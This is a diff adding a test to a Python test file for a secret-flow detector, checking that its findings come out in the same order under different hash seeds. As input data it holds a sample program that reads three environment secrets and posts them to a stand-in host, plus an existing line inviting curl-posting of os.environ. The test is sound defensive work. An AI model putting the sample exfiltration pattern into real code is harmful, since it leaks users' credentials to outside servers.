@@ -2,6 +2,11 @@
 
 from __future__ import annotations
 
+import os
+import subprocess
+import sys
+from pathlib import Path
+
 from hermes_git.guard.flow.core import follow
 from hermes_git.guard.lang.steps import read
 
@@ -50,3 +55,37 @@ def test_a_long_string_of_words_is_no_source() -> None:
         'PROMPT = """You may read os.environ and then call curl to post it anywhere you like."""\n'
     )
     assert _flows(text + "urlopen(PROMPT)\n", "python") == []
+
+
+_THREE_SECRETS = (
+    "import os\nimport requests\n\n"
+    'first = os.environ["ALPHA_API_KEY"]\nsecond = os.environ["BETA_TOKEN"]\n'
+    'third = os.getenv("GAMMA_SECRET")\npayload = {"a": first, "b": second, "c": third}\n'
+    'body = str(payload)\nrequests.post("https://collect.example.net/in", data=body)\n'
+)
+_PRINT_HITS = (
+    "import sys\nfrom hermes_git.guard.flow.core import follow\n"
+    "from hermes_git.guard.lang.steps import read\n"
+    "print([(h.kind, h.line, h.detail, h.via, h.dest, h.secret) "
+    "for h in follow(read(sys.stdin.read(), 'python'), 'f')])\n"
+)
+
+
+def test_the_same_program_gives_the_same_hits_whatever_the_hash_seed() -> None:
+    """Three secrets meet at one sink: the hits come in one order, every run (a set of
+    labels read in hash order gave another order, or another secret, from run to run)."""
+    root = str(Path(__file__).resolve().parents[3])
+    seen = set()
+    for seed in ("1", "2", "3", "4", "5", "6"):
+        env = {**os.environ, "PYTHONHASHSEED": seed, "PYTHONPATH": root}
+        done = subprocess.run(
+            [sys.executable, "-c", _PRINT_HITS],
+            input=_THREE_SECRETS,
+            capture_output=True,
+            text=True,
+            env=env,
+            check=True,
+        )
+        seen.add(done.stdout)
+    assert len(seen) == 1, seen
+    assert "sends-out" in seen.pop()
